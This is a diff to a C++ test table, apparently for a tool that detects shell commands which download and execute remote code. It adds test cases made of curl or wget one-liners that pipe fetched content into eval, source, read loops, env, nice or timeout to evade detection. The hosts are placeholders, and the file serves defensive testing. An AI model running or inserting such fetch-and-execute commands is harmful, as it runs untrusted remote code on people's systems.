@@ -54,6 +54,31 @@ const Attack kTextAttacks[] = {
     TEXT_CASE("a dot in dash", "curl -s -o @D/f @PROGRAMS_URL; dash -c '. @D/f'"),
     TEXT_CASE("eval in busybox", "busybox sh -c 'eval \"$(busybox wget -qO- @PROGRAMS_URL)\"'"),
     TEXT_CASE("eval in zsh", "zsh -c 'eval \"$(curl -s @PROGRAMS_URL)\"'"),
+    TEXT_CASE("lines in dash",
+              "dash -c 'curl -s @PROGRAMS_URL | while read -r l; do eval \"$l\"; done'"),
+    TEXT_CASE("in the environment", "x=$(curl -s @URL) bash -c 'eval \"$x\"'"),
+    TEXT_CASE("as an argument", "printf 'eval \"$1\"' > @D/s; bash @D/s \"$(curl -s @URL)\""),
+    TEXT_CASE("below other programs", "timeout 9 env nice sh -c \"$(curl -s @URL)\""),
+    TEXT_CASE("a descriptor printed", "eval \"$(cat <(curl -s @URL))\""),
+    TEXT_CASE("through another shell", "eval \"$(sh -c 'x=$(curl -s @URL); echo \"$x\"')\""),
+    // That the line stands in the shell's own program is no excuse where that may run a variable.
+    TEXT_CASE("a line that the evaluating script has as well",
+              "printf '%s\\n' 'P=$(curl -s @PROGRAMS_URL)' 'eval \"$P\"' 'exit 0' "
+              "'/usr/bin/touch @D/first @D/second' > @D/s; dash @D/s"),
+    TEXT_CASE("a line that the reading script has as well",
+              "printf '%s\\n' 'curl -s @PROGRAMS_URL | while read -r l; do case $l in /*) $l ;; "
+              "*) eval \"$l\" ;; esac; done; exit' '/usr/bin/touch @D/first @D/second' > @D/s; "
+              "dash @D/s"),
+    TEXT_CASE("a variable as bash's command",
+              "printf '%s\\n' 'l=$(curl -s @PROGRAMS_URL | head -n 1)' '$l' "
+              "'[ ! -e @D/second ] || echo ran > @D/marker' exit "
+              "'/usr/bin/touch @D/first @D/second' > @D/s; bash @D/s"),
+    TEXT_CASE("a line that another program starts",
+              "dash -c 'l=$(curl -s @PROGRAMS_URL | head -n 1); timeout 5 $l; "
+              "[ ! -e @D/second ] || echo ran > @D/marker'"),
+    TEXT_CASE("a line that env becomes",
+              "dash -c 'l=$(curl -s @PROGRAMS_URL | head -n 1); nice env $l; "
+              "[ ! -e @D/second ] || echo ran > @D/marker'"),
     {"source <()", "source <(curl -s @URL)", Order::reader_late},
     {"a dot and <()", ". <(curl -s @URL)", Order::reader_late},
     {"source from a coprocess", "coproc curl -s @URL; source /dev/fd/${COPROC[0]}",
